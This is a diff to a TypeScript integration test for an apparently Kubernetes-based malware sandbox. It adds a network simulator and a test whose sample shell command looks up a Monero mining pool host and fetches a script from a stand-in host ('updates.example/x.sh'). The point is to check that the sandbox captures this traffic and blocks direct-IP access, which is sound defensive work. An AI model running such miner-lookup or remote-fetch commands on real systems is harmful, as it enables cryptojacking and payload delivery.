@@ -7,6 +7,7 @@
  * The cluster needs (kind: `kind load docker-image …`; k3s: `k3s ctr images import …`):
  *   K8S_PROBE_IMAGE   the probe image (deploy/probe-image), default quarantine/probe:latest
  *   K8S_SAMPLE_IMAGE  an image with /bin/sh, default busybox:1.36
+ *   K8S_NETSIM_IMAGE  the network simulator image (deploy/netsim-image), default quarantine/netsim:latest
  * Optional: K8S_RUNTIME_CLASS (e.g. gvisor) to run the samples under that RuntimeClass.
  */
 import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
@@ -25,6 +26,7 @@ const runtime = new KubernetesRuntime({
   client,
   resolveImage: async () => image([]),
   probeImage: process.env.K8S_PROBE_IMAGE ?? 'quarantine/probe:latest',
+  netsimImage: process.env.K8S_NETSIM_IMAGE ?? 'quarantine/netsim:latest',
   workerServiceAccount: { namespace: 'quarantine', name: 'quarantine-worker' },
   startAllowanceSeconds: 240,
 });
@@ -35,8 +37,9 @@ function image(argv: string[]): ResolvedImage {
   return { imageId: sampleImage, digest: sampleImage, repoDigests: [], repoTags: [sampleImage], entrypoint: argv, cmd: [], user: '', env: [], workingDir: '' };
 }
 
-function spec(id: string, argv: string[], windowSeconds: number): SandboxSpec {
+function spec(id: string, argv: string[], windowSeconds: number, network?: SandboxSpec['network']): SandboxSpec {
   return {
+    ...(network ? { network } : {}),
     analysisId: `${analysisPrefix}-${id}`,
     hold: true,
     image: image(argv),
@@ -58,8 +61,8 @@ afterAll(async () => {
   for (const ns of left.filter((n) => (n.labels['quarantine.io/analysis-id'] ?? '').startsWith(analysisPrefix))) await client.deleteNamespace(ns.name);
 });
 
-async function detonate(id: string, argv: string[], windowSeconds: number) {
-  const sandbox = await runtime.create(spec(id, argv, windowSeconds));
+async function detonate(id: string, argv: string[], windowSeconds: number, network?: SandboxSpec['network']) {
+  const sandbox = await runtime.create(spec(id, argv, windowSeconds, network));
   try {
     const target = await sandbox.start();
     const tracePath = join(work, `${id}.trace`);
@@ -68,7 +71,8 @@ async function detonate(id: string, argv: string[], windowSeconds: number) {
     const exit = await sandbox.wait(new AbortController().signal);
     const probe = await session.stop(10_000);
     const output = await sandbox.output(4096);
-    return { sandbox, target, exit, probe, output, trace: readFileSync(tracePath, 'utf8').split('\n').filter(Boolean) };
+    const net = await sandbox.networkStatus?.();
+    return { sandbox, target, exit, probe, output, net, trace: readFileSync(tracePath, 'utf8').split('\n').filter(Boolean) };
   } finally {
     await sandbox.destroy();
   }
@@ -108,3 +112,18 @@ it('the reaper deletes a namespace left behind by a crashed worker', async () =>
   expect(removed.some((n) => n.includes('orphan'))).toBe(true);
   for (const ns of await namespacesOf('orphan')) expect(ns.phase).toBe('Terminating');
 }, 120_000);
+
+it('simulated network: the simulator pod answers DNS and HTTP, records both, and is the only peer', async () => {
+  const capturePath = join(work, 'net.ndjson');
+  const r = await detonate(
+    'netsim',
+    ['/bin/sh', '-c', 'nslookup pool.supportxmr.com; wget -q -T 3 -O- http://updates.example/x.sh; wget -q -T 2 -O- http://10.0.0.1/ || echo literal-ip-blocked'],
+    60,
+    { mode: 'simulated', capturePath },
+  );
+  expect(r.net).toMatchObject({ mode: 'simulated', simulatorHealthy: true });
+  const records = readFileSync(capturePath, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as { kind: string; dns?: { name: string }; http?: { host: string; path: string } });
+  expect(records.some((c) => c.kind === 'dns' && c.dns?.name === 'pool.supportxmr.com')).toBe(true);
+  expect(records.some((c) => c.kind === 'http' && c.http?.host === 'updates.example' && c.http.path === '/x.sh')).toBe(true);
+  expect(r.output.stdout).toContain('literal-ip-blocked');
+}, 300_000);
